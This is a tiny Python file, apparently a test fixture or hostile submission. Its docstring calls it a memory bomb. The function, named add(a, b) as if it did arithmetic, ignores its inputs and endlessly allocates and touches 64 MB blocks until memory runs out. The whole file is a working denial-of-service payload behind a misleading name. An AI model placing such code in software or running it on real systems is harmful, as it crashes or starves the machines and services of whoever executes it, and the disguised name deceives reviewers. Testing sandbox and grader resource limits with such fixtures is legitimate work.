"""Memory bomb: allocate and touch memory until something gives."""


def add(a, b):
    hog = []
    while True:
        block = bytearray(64 << 20)
        for i in range(0, len(block), 4096):
            block[i] = 1
        hog.append(block)
